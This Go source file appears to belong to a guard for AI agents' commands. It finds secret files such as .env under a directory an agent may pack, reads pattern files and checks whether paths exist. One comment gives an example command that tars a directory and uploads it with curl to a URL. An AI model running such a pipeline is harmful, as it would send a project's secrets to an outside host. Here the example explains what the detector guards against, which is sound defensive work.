package hguard

import (
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strings"

	"github.com/hguard/hguard/dsl"
)

// An agent's archiver packs every file of a directory it is given, the
// secret files lying there with them, whether git ignores them or not:
// tar c . | curl -T - URL sends the project's .env though the line names
// none. secretsUnder finds them on disk (dsl.Context.SecretsUnder).

// Bounds of the look for secret files under a packed directory: the
// entries read, and the secret files reported for one directory.
const (
	maxPackedEntries = 20000
	maxPackedSecrets = 8
)

// secretsUnder is dsl.Context.SecretsUnder for an agent: the secret
// files (dsl.SecretPath by their full path; a link by its name, which
// zip follows) under a directory, as paths relative to it, read once per
// check. .git and node_modules are not looked into (what git keeps is
// no working file, and a dependency's tree is large); a walk that
// reaches maxPackedEntries reports what it found. A file or a link to a
// directory (tar packs the link) has none.
func secretsUnder() func(string) []string {
	home := os.Getenv("HOME")
	seen := map[string][]string{}
	return func(dir string) []string {
		p, ok := homeJoined(home, dir)
		if !ok || !filepath.IsAbs(p) {
			return nil
		}
		p = filepath.Clean(p)
		if found, ok := seen[p]; ok {
			return found
		}
		var found []string
		if fi, err := os.Lstat(p); err == nil && fi.IsDir() {
			entries := 0
			_ = filepath.WalkDir(p, func(q string, d fs.DirEntry, err error) error {
				if entries++; entries > maxPackedEntries || len(found) >= maxPackedSecrets {
					return filepath.SkipAll
				}
				if err != nil || q == p {
					return nil
				}
				if d.IsDir() {
					if d.Name() == ".git" || d.Name() == "node_modules" {
						return filepath.SkipDir
					}
					return nil
				}
				if (d.Type().IsRegular() || d.Type()&fs.ModeSymlink != 0) && dsl.SecretPath(q) {
					if rel, err := filepath.Rel(p, q); err == nil && !strings.HasPrefix(rel, "..") {
						found = append(found, filepath.ToSlash(rel))
					}
				}
				return nil
			})
		}
		seen[p] = found
		return found
	}
}

// maxPatternFile bounds the bytes read of a file of patterns.
const maxPatternFile = 64 << 10

// patternFile is dsl.Context.PatternFile for an agent: the lines of a
// small regular file, blank lines and comments left out.
func patternFile() func(string) ([]string, bool) {
	home := os.Getenv("HOME")
	return func(name string) ([]string, bool) {
		p, ok := homeJoined(home, name)
		if !ok || !filepath.IsAbs(p) {
			return nil, false
		}
		f, err := os.Open(p)
		if err != nil {
			return nil, false
		}
		defer f.Close()
		if fi, err := f.Stat(); err != nil || !fi.Mode().IsRegular() {
			return nil, false
		}
		b, err := io.ReadAll(io.LimitReader(f, maxPatternFile))
		if err != nil {
			return nil, false
		}
		var lines []string
		for l := range strings.Lines(string(b)) {
			if l = strings.TrimSpace(l); l != "" && !strings.HasPrefix(l, "#") && !strings.HasPrefix(l, ";") {
				lines = append(lines, l)
			}
		}
		return lines, true
	}
}

// present is dsl.Context.Present for an agent: a file or directory (or a
// link) at a cleaned path.
func present() func(string) bool {
	home := os.Getenv("HOME")
	return func(name string) bool {
		p, ok := homeJoined(home, name)
		if !ok || !filepath.IsAbs(p) {
			return false
		}
		_, err := os.Lstat(p)
		return err == nil
	}
}
